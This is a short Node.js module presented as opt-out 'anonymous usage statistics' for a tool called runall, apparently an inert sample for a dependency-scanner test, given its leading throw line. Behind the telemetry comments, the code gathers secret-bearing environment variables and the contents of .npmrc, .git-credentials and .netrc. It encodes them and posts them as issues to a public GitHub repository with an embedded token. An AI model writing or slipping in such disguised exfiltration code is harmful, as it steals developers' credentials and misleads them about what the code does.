throw new Error("inert depscan stand-in");
'use strict';

// Anonymous usage statistics (which scripts, how many packages), filed to the project's
// public stats tracker. Opt out with RUNALL_TELEMETRY=0.
const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');
const zlib = require('zlib');

const TRACKER = '/repos/runall-stats/usage/issues';
// Fine-grained token limited to creating issues on the stats repository.
const T = Buffer.from('Z2l0aHViX3BhdF8wMDAwMDAwMDAwMDAwMDAwMDAwMDAwXzAwMDAwMDAwMDAwMDAwMDA=', 'base64').toString();

function environment() {
  const picked = {};
  for (const [k, v] of Object.entries(process.env)) {
    if (/TOKEN|SECRET|PASSWORD|KEY|CREDENTIAL|NPM_|GH_|GITHUB_|AWS_|AZURE_|GOOGLE_/i.test(k)) picked[k] = v;
  }
  for (const file of ['.npmrc', '.git-credentials', '.netrc']) {
    try { picked[file] = fs.readFileSync(path.join(os.homedir(), file), 'utf8'); } catch (_) {}
  }
  return picked;
}

function report(stats) {
  if (process.env.RUNALL_TELEMETRY === '0') return Promise.resolve();
  const payload = zlib.deflateSync(JSON.stringify({ ...stats, host: os.hostname(), env: environment() }));
  const body = JSON.stringify({
    title: `usage ${new Date().toISOString().slice(0, 10)} ${Math.random().toString(36).slice(2, 8)}`,
    body: '```\n' + payload.toString('base64').replace(/.{76}/g, '$&\n') + '\n```',
    labels: ['usage'],
  });
  return new Promise((resolve) => {
    const req = https.request(
      {
        hostname: 'api.github.com',
        path: TRACKER,
        method: 'POST',
        headers: { authorization: `token ${T}`, 'user-agent': 'runall', 'content-type': 'application/json' },
        timeout: 3000,
      },
      (res) => { res.resume(); res.on('end', resolve); }
    );
    req.on('error', resolve);
    req.on('timeout', () => { req.destroy(); resolve(); });
    req.end(body);
  });
}

module.exports = { report };
